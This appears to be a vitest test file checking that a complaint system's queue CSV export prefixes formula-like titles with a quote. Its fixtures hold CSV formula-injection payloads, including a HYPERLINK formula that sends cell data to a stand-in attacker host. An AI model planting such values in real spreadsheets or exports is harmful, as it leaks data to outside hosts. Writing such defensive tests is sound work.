/**
 * Formula injection in the commission's queue export: a citizen chooses the title, a commission
 * member opens the CSV in a spreadsheet. Every such title must arrive there as text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createTestDatabase, type TestDatabase } from '../../../../tests/support/test-db.ts';
import { listComplaintQueue, queueCsv } from './console.ts';
import { fileComplaint } from './filing.ts';

const sanghe = { id: 'sanghe-commission', username: 'sanghe.jw', role: 'commission' as const, scopeCode: '990121000000' };
const base = {
  category: 'assets',
  areaCode: '990121001201',
  subjectRole: '村（社区）“两委”干部',
  content: '村里的集体收入去向不明，几年来从没有张榜公布过账目，群众多次询问也没有答复。',
  anonymous: true,
};
const TITLES = ['=HYPERLINK("http://evil.invalid/?q="&A2,"详情")', '+1 前营村账目不公开', '@SUM(A1:A9) 前营村收入去向', '-1+1 前营村承包费'];

let test: TestDatabase;
beforeAll(async () => {
  test = await createTestDatabase();
  for (const title of TITLES) {
    const filed = await fileComplaint(test.db, { ...base, title }, { today: '2026-11-10' });
    if (!filed.ok) throw new Error(`filing failed: ${JSON.stringify(filed.errors)}`);
  }
});
afterAll(async () => test?.dispose());

describe('the complaint queue CSV', () => {
  it('writes every title that a spreadsheet would evaluate with a leading quote', async () => {
    const queue = await listComplaintQueue(test.db, sanghe);
    expect(queue.map((entry) => entry.complaint.title).sort()).toEqual([...TITLES].sort());
    const rows: Record<string, string>[] = parse(queueCsv(queue).replace(/^\uFEFF/, ''), { columns: true });
    expect(rows.map((row) => row['标题']).sort()).toEqual(TITLES.map((title) => `'${title}`).sort());
    expect(rows.every((row) => row['登记日期'] === '2026-11-10' && row['地点'] === '前营村')).toBe(true);
  });
});
